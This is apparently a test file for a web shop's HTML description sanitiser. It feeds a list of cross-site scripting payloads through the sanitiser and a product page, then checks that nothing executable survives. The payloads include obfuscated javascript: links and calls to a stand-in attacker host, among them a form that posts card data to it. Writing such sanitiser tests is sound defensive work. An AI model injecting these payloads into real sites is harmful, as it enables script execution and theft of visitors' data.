import { test } from '@japa/runner'
import { sanitizeDescription } from '#delivery'
import { hostOf, resetState, shopWithOwner } from '#tests/functional/merchant/_fixtures'
import { FORM, products, submit } from './_fixtures.js'

/** Payloads that must not survive: script, handlers, javascript: URLs, styles, frames, SVG. */
const PAYLOADS = [
  '<script>alert("xss-1")</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert("xss-2")>',
  '<p onmouseover="alert(\'xss-3\')">hover</p>',
  '<a href="javascript:alert(\'xss-4\')">click</a>',
  '<a href="JaVaScRiPt:alert(\'xss-5\')">click</a>',
  '<a href="jav&#x09;ascript:alert(\'xss-6\')">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(\'xss-7\')">click</a>',
  '<a href=" javascript:alert(\'xss-8\')">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="//evil.example/path">protocol-relative</a>',
  '<p style="background:url(javascript:alert(\'xss-9\'))">painted</p>',
  '<style>body { background: url("https://evil.example/track") }</style>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<iframe srcdoc="<script>alert(\'xss-10\')</script>"></iframe>',
  '<svg onload=alert("xss-11")><circle r="1"/></svg>',
  '<svg><a xlink:href="javascript:alert(\'xss-12\')"><text>x</text></a></svg>',
  '<svg><script>alert("xss-13")</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert("xss-14")>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  '<form action="https://evil.example/steal"><input name="card"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<noscript><p title="</noscript><img src=x onerror=alert(\'xss-15\')>"></noscript>',
  '<template><img src=x onerror=alert("xss-16")></template>',
  '<a href="https://ok.example/" onclick="alert(\'xss-17\')" target="_self" rel="opener">ok</a>',
  '<h3 class="x" id="y" data-x="1">Title</h3>',
  '<!-- <img src=x onerror=alert("xss-18")> -->',
]

/** Nothing executable or styling may be left in `html`. */
function assertClean(assert: any, html: string, label: string) {
  const lower = html.toLowerCase()
  for (const bad of [
    '<script',
    '</script',
    'onerror',
    'onload',
    'onmouseover',
    'onclick',
    'javascript:',
    'vbscript:',
    'data:',
    'style',
    '<iframe',
    'srcdoc',
    '<svg',
    '<math',
    '<img',
    '<object',
    '<embed',
    '<form',
    '<input',
    '<meta',
    '<base',
    '<link',
    '<template',
    'xlink',
    'evil.example',
    'alert(',
  ]) {
    assert.notInclude(lower, bad, `${label}: ${bad}`)
  }
}

test.group('catalog form / description sanitising', () => {
  for (const payload of PAYLOADS) {
    test(`nothing dangerous survives: ${payload.slice(0, 60)}`, ({ assert }) => {
      assertClean(assert, sanitizeDescription(payload) ?? '', payload)
    })
  }

  test('the allow-list keeps its tags, and links get rel and target', ({ assert }) => {
    const html = [
      '<h3>Title</h3><h4>Sub</h4>',
      '<p>One<br>two <strong>bold</strong> <em>it</em> <b>b</b> <i>i</i> <code>x = 1</code></p>',
      '<ul><li>a</li></ul><ol><li>b</li></ol><blockquote>quote</blockquote>',
      '<p><a href="https://ok.example/a?b=1&amp;c=2" target="_self" rel="opener" title="t">https</a>',
      '<a href="http://ok.example/">http</a> <a href="mailto:help@ok.example">mail</a></p>',
      '<h1>Big</h1><div><span>plain</span></div><table><tr><td>cell</td></tr></table>',
    ].join('')
    assert.equal(
      sanitizeDescription(html),
      [
        '<h3>Title</h3><h4>Sub</h4>',
        '<p>One<br />two <strong>bold</strong> <em>it</em> <strong>b</strong> <em>i</em> <code>x = 1</code></p>',
        '<ul><li>a</li></ul><ol><li>b</li></ol><blockquote>quote</blockquote>',
        '<p><a href="https://ok.example/a?b=1&amp;c=2" rel="nofollow noopener" target="_blank">https</a>',
        '<a href="http://ok.example/" rel="nofollow noopener" target="_blank">http</a> ',
        '<a href="mailto:help@ok.example" rel="nofollow noopener" target="_blank">mail</a></p>',
        'Bigplaincell',
      ].join('')
    )
  })

  test('a javascript: link keeps its text but loses its href', ({ assert }) => {
    assert.equal(
      sanitizeDescription('<a href="javascript:alert(1)">click</a>'),
      '<a rel="nofollow noopener" target="_blank">click</a>'
    )
  })

  test('text is escaped, empty input is null', ({ assert }) => {
    assert.equal(sanitizeDescription('1 < 2 & "q"'), '1 &lt; 2 &amp; "q"')
    assert.isNull(sanitizeDescription('   '))
    assert.isNull(sanitizeDescription('<script>alert(1)</script><style>p{}</style>'))
  })
})

test.group('catalog form / description end to end', (group) => {
  group.each.setup(() => resetState())

  test('every payload is cleaned when saved and the product page renders it harmless', async ({
    client,
    assert,
  }) => {
    const { shop, owner } = await shopWithOwner('xss-shop')
    // Unclosed payloads (the <math>…<style> one) swallow what follows: the safe part goes first.
    const description = `<p>Safe intro</p><p><a href="https://ok.example/" onclick="go()">ok</a></p>${PAYLOADS.join('\n')}`
    const saved = await client
      .post('/merchant/products')
      .header('host', hostOf(shop))
      .loginAs(owner)
      .fields({ ...FORM, description })
      .withCsrfToken()
      .redirects(0)
    saved.assertStatus(302)
    const [row] = await products(shop)
    assertClean(assert, row.description_html, 'stored')
    assert.include(row.description_html, '<p>Safe intro</p>')
    assert.include(
      row.description_html,
      '<a href="https://ok.example/" rel="nofollow noopener" target="_blank">ok</a>'
    )

    const page = await client
      .get(`/p/${row.id}`)
      .header('host', hostOf(shop))
      .header('accept-language', 'en')
    page.assertStatus(200)
    const html = page.text()
    const start = html.indexOf('<div class="rich-text">')
    assert.isAbove(start, 0, 'the description is on the page')
    const body = html.slice(start, html.indexOf('</section>', start))
    assert.include(body, '<p>Safe intro</p>')
    assertClean(assert, body, 'rendered')

    const edit = await client
      .get(`/merchant/products/${row.id}/edit`)
      .header('host', hostOf(shop))
      .loginAs(owner)
    edit.assertStatus(200)
    assert.notInclude(edit.text(), '<p>Safe intro</p>', 'escaped inside the textarea')
  })

  test('a description sent as urlencoded form is cleaned the same way', async ({
    client,
    assert,
  }) => {
    const { shop, owner } = await shopWithOwner('xss-shop')
    const response = await submit(client, shop, owner, '/merchant/products', {
      ...FORM,
      description: '<img src=x onerror=alert(1)><p>kept</p>',
    })
    response.assertStatus(302)
    const [row] = await products(shop)
    assert.equal(row.description_html, '<p>kept</p>')
  })
})
